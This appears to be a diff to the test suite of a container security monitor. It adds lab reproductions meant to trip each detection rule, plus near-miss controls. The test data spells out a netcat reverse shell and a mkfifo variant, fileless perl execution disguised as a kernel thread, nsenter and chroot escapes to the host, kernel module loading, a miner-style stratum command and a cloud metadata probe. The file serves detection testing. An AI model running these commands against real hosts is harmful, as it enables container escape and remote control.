@@ -22,6 +22,16 @@ const imds = (name: string, address: string) => `docker run -d --name ${name} --
   sleep 1
   docker exec ${name} sh -c 'echo | nc -w 1 ${address} 80' || true`;
 
+/** The image has no perl: the host's own, with the libraries where it looks for them. */
+const hostsPrograms = '-v /usr:/usr:ro -v /usr/lib:/lib:ro -v /usr/lib64:/lib64:ro';
+const fromMemory = `$n="x"; $f=syscall(319,$n,0); open $h,">&=$f"; open $b,"<","/usr/bin/sleep"; binmode $_ for $h,$b;
+  {local $/; syswrite $h,<$b>} $^F=255; exec {"/proc/self/fd/$f"} "[kworker/0:1]","39"`;
+/** Somebody listens in the container, and something connects to it. */
+const listening = (name: string, client: string) => `docker run -d --name ${name} $N $B
+  docker exec -d ${name} sh -c 'sleep 60 | nc -l -p 4444'
+  sleep 1
+  docker exec -d ${name} ${client}`;
+
 const reproductions: readonly Reproduction[] = [
   {
     id: 'r01',
@@ -167,16 +177,56 @@ const reproductions: readonly Reproduction[] = [
     run: 'docker create --name lab-engine --cgroup-parent /elsewhere -v $(docker info -f "{{.DockerRootDir}}")/containers:/d:ro $N $B',
   },
   {
+    id: 'r30',
+    rows: { 'ESC-10': 'critical', 'ESC-11': 'critical' },
+    nearMiss:
+      'docker run -d --name near-r30 --pid host $P $N $B; docker exec near-r30 nsenter --help || true; docker exec -d near-r30 sleep 31',
+    run: `docker run -d --name lab-r30 --pid host $P $N $B; docker exec lab-r30 nsenter -t 1 -m -u -n -i -- true || true
+      docker exec -d lab-r30 nsenter -t $(cat $(dirname $S)/docker.pid) -m -u -i -- /usr/bin/sleep 30`,
+  },
+  {
+    id: 'r35',
+    rows: { 'ESC-30': 'critical' },
+    nearMiss: 'docker run -d --name near-r35 $P $N $B; docker exec near-r35 lsmod || true',
+    run: "docker run -d --name lab-r35 $P $N $B; docker exec lab-r35 sh -c 'echo x >/tmp/x.ko'; docker exec lab-r35 insmod /tmp/x.ko || true",
+  },
+  {
+    id: 'r39',
+    rows: { 'FIL-01': 'critical', 'FIL-12': 'high' },
+    nearMiss: `docker run -d --name near-r39 $N ${hostsPrograms} $B; docker exec -d near-r39 perl -e 'exec "/usr/bin/sleep","39"'`,
+    run: `docker run -d --name lab-r39 $N ${hostsPrograms} $B; docker exec -d lab-r39 perl -e '${fromMemory}'`,
+  },
+  {
+    id: 'r42',
+    rows: { 'NET-01': 'critical' },
+    nearMiss: listening('near-r42', 'nc 127.0.0.1 4444'),
+    run: listening('lab-r42', 'nc 127.0.0.1 4444 -e /bin/sh'),
+  },
+  {
+    id: 'r42fifo',
+    rows: { 'NET-01': 'critical' },
+    nearMiss: listening('near-r42fifo', "sh -c 'mkfifo /tmp/f; sleep 42 </tmp/f 2>&1 | nc 127.0.0.1 4444 >/tmp/f'"),
+    run: listening('lab-r42fifo', "sh -c 'mkfifo /tmp/f; sh -i </tmp/f 2>&1 | nc 127.0.0.1 4444 >/tmp/f'"),
+  },
+  {
     id: 'r44',
     rows: { 'CRD-01': 'high' },
     nearMiss: imds('near-r44', '169.254.10.10'),
     run: imds('lab-r44', '169.254.169.254'),
   },
   {
+    id: 'r48',
+    rows: { 'IMP-01': 'critical' },
+    nearMiss: 'docker run -d --name near-r48 --label stratum=1 $N $B echo --donate=1 -o tcp://127.0.0.1:3333 -u wallet',
+    run: 'docker run -d --name lab-r48 $N $B echo --donate-level=1 -o stratum+tcp://127.0.0.1:3333 -u wallet',
+  },
+  {
     id: 'r53',
-    rows: { 'API-05': 'low' },
-    nearMiss: 'docker run -d --name near-r53 $N $B; docker cp near-r53:/etc/passwd - >/dev/null',
-    run: "docker run -d --name lab-r53 $N $B; printf '#!/bin/sh\\nid\\n' >/tmp/lab-r53; docker cp /tmp/lab-r53 lab-r53:/tmp/t; rm /tmp/lab-r53",
+    rows: { 'API-05': 'low', 'FIL-03': 'high' },
+    nearMiss:
+      'docker run -d --name near-r53 $N $B; docker cp near-r53:/etc/passwd - >/dev/null; docker exec near-r53 /bin/id',
+    run: `docker run -d --name lab-r53 $N $B; printf '#!/bin/sh\\nid\\n' >/tmp/lab-r53; chmod +x /tmp/lab-r53
+      docker cp /tmp/lab-r53 lab-r53:/tmp/t; rm /tmp/lab-r53; docker exec lab-r53 /tmp/t`,
   },
   {
     id: 'r53out',
@@ -203,6 +253,13 @@ const reproductions: readonly Reproduction[] = [
       docker create --name near-r58 --network near-n1 $B; docker network connect near-n2 near-r58; docker start near-r58`,
     run: `docker network create --internal lab-n1; docker network create --internal lab-n2
       docker run -d --name lab-r58 --network lab-n1 $B; sleep 6; docker network connect lab-n2 lab-r58`,
+  },
+  {
+    id: 'r61',
+    rows: { 'ESC-12': 'high' },
+    nearMiss: `docker run -d --name near-r61 -v /:/host:ro $N $B
+      docker exec near-r61 sh -c 'mkdir -p /tmp/j/bin; cp /bin/busybox /tmp/j/bin/sleep'; docker exec -d near-r61 chroot /tmp/j /bin/sleep 61`,
+    run: 'docker run -d --name lab-r61 -v /:/host:ro $N $B; docker exec -d lab-r61 chroot /host /usr/bin/sleep 61',
   },
 ];
 
@@ -235,12 +292,18 @@ describe('reproductions of the catalogue', () => {
     for (const row of Object.keys(rows)) expect(about(findings, row, `near-${id}`)).toEqual([]);
   });
 
-  test('an ordinary container raises nothing', async () => {
-    await lab.sh('docker run -d --name ordinary -v ordinary-v:/data -v /etc/localtime:/etc/localtime:ro $N $B');
+  test('an ordinary container raises nothing but what every container has, below medium', async () => {
+    await lab.sh(`docker run -d --name ordinary -v ordinary-v:/data -v /etc/localtime:/etc/localtime:ro \\
+      --health-cmd 'test -f /etc/passwd' --health-interval 1s $N $B sh -c 'while :; do date >/data/now; sleep 1; done'
+      docker exec ordinary ls /data; sleep 4`);
     await lab.sh('docker run -d --name after-ordinary --pid host $N $B');
     await moorwatch.finding('CFG-20', (name) => name === 'after-ordinary');
     const findings = await moorwatch.findings();
-    expect(findings.filter(({ container }) => container?.name === 'ordinary')).toEqual([]);
+    const ordinary = findings.filter(({ container }) => container?.name === 'ordinary');
+    const everybody = ordinary.filter(
+      ({ nature, severity }) => nature === 'condition' && ['informational', 'low'].includes(severity),
+    );
+    expect(ordinary.map(({ summary }) => summary)).toEqual(everybody.map(({ summary }) => summary));
   });
 
   test('a plain rename is told at low, only one that resembles a protected name at high', async () => {
